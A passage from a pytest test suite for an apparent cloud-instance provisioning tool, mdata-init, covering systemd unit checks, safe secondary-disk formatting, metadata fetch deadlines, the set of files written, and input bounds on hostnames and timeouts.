    assert "Before=mdata-init-late.service" in grow_u
    unit_lines = [l for l in grow_u.splitlines() if not l.startswith("#")]
    assert not [l for l in unit_lines if "network" in l.lower()], unit_lines
    if shutil.which("systemd-analyze") is None:
        pytest.skip("systemd-analyze not installed")
    # Verified with ExecStart pointing at the built binary.
    paths = []
    for name, text in (("mdata-init-early.service", early_u),
                       ("mdata-init-hostkeys.service", keys_u),
                       ("mdata-init-growroot.service", grow_u),
                       ("mdata-init-late.service", late_u)):
        exe = [l for l in text.splitlines() if l.startswith("ExecStart=")][0]
        text = text.replace(exe.split()[0], "ExecStart=" + os.environ["MDATA_INIT"])
        p = tmp_path / name
        p.write_text(text)
        paths.append(str(p))
    r = subprocess.run(["systemd-analyze", "verify", "--man=no"] + paths,
                       capture_output=True, timeout=120)
    # Only our units' own findings count (the host's units are not ours).
    ours = [l for l in r.stderr.decode().splitlines() if l.startswith("mdata-init-")]
    assert ours == [], ours


# --- the optional secondary disk --------------------------------------------

def ext_magic(path):
    with open(path, "rb") as f:
        f.seek(1080)
        return f.read(2) == b"\x53\xef"


@pytest.mark.skipif(shutil.which("mkfs.ext4") is None, reason="mkfs.ext4 (e2fsprogs) not installed")
def test_secondary_disk(host, root, tmp_path):
    disk = tmp_path / "vdb.img"
    with open(str(disk), "wb") as f:
        f.truncate(8 << 20)
    used = tmp_path / "used.img"
    with open(str(used), "wb") as f:
        f.truncate(8 << 20)
        f.seek(510)
        f.write(b"\x55\xaa")  # an MBR signature: a partition table
    (root / "etc").mkdir()
    (root / "etc" / "fstab").write_text("/dev/vda1 / ext4 defaults 0 1\n")
    dev = host(vm())

    # Off by default.
    assert early(root, dev).code == 0
    assert not ext_magic(str(disk))

    conf(root, "format_secondary_disk = yes\nsecondary_disk = %s\n"
               "secondary_mount = /srv/data\n" % disk)
    r = early(root, dev)
    assert r.code == 0, r
    assert ext_magic(str(disk))
    assert (root / "srv" / "data").is_dir()
    fstab = read(root, "etc/fstab")
    assert fstab.startswith("/dev/vda1 / ext4 defaults 0 1\n# BEGIN mdata-init")
    assert "%s\t/srv/data\text4\tdefaults,nofail\t0\t2\n" % disk in fstab

    # Formatted once: the next boot leaves the filesystem alone.
    before = open(str(disk), "rb").read()
    assert early(root, dev).code == 0
    assert open(str(disk), "rb").read() == before

    # A disk holding a partition table is never touched.
    conf(root, "format_secondary_disk = yes\nsecondary_disk = %s\n" % used)
    before = open(str(used), "rb").read()
    r = early(root, dev, "-v")
    assert r.code == 0, r
    assert "holds data: left alone" in r.out
    assert open(str(used), "rb").read() == before


def test_one_deadline_for_all_keys(host, root):
    # Every reply 400 ms late: one key after the other would need 4.4 s
    # (11 keys; 9.6 s for the 24 of the serial line) and miss a 4 s
    # deadline; all in flight together they take about three delays
    # (probe, negotiation, the requests).
    r = early(root, host(vm(), "--fault", "delay=400"), "-t", "4")
    assert r.code == 0, r
    assert read(root, "etc/hostname") == "sdc-name\n"


# The paths mdata-init(8) lists under FILES, as patterns.
LISTED = [
    "etc/hostname", "etc/rc.conf.d/hostname", "etc/hosts",
    "etc/systemd/network/10-mdata-*.network", "etc/netplan/50-mdata.yaml",
    "etc/network/interfaces", "etc/NetworkManager/system-connections/mdata-*",
    "etc/rc.conf.local", "etc/ssh/ssh_host_*", "etc/machine-id",
    "root/.ssh/authorized_keys", "var/svc/provision_success",
    "var/db/mdata-user-data", "var/db/user-script", "etc/fstab",
    "var/lib/mdata-init/*",
]


@needs_keygen
def test_writes_only_listed_paths(host, root):
    import fnmatch
    fake_image(root)
    (root / "var" / "svc").mkdir(parents=True)
    (root / "var" / "svc" / "provisioning").write_text("")
    image = set(files_state(root))
    cm = {"user-script": "true\n", "user-data": "x", "hostname": "h",
          "root_authorized_keys": mkkey(1)}
    r = run_init("all", "--root", root, "-d", host(vm(customer=cm,
                 internal={"operator-script": "#!/bin/sh\ntrue\n"})))
    assert r.code == 0, r
    new = set(files_state(root)) - image
    stray = [p for p in new if not any(fnmatch.fnmatch(p, pat) for pat in LISTED)]
    assert stray == [], stray


def test_huge_name_bounded(host, root):
    # A 64 KiB customer hostname is refused by the client's 4 KiB bound for
    # names, whatever max_value_size says; sdc:hostname takes over.
    cm = {"hostname": "a" * 65536, "root_authorized_keys": mkkey(1)}
    r = early(root, host(vm(customer=cm)))
    assert r.code == 0, r
    assert "hostname is larger than its bound" in r.out
    assert read(root, "etc/hostname") == "sdc-name\n"


@pytest.mark.parametrize("t", ["0", "-1", "abc", "1s", "86401"])
def test_bad_timeout_refused(t, root):
    # A usage error before any connection is tried or any file touched.
    before = files_state(root)
    r = run_init("--root", root, "--device", "/nonexistent", "--timeout", t,
                 "early")
    assert r.code == 2, r
    assert r.err == ("mdata-init: bad timeout '%s' (seconds, "
                     "0 < t <= 86400)\n" % t), r
    assert files_state(root) == before
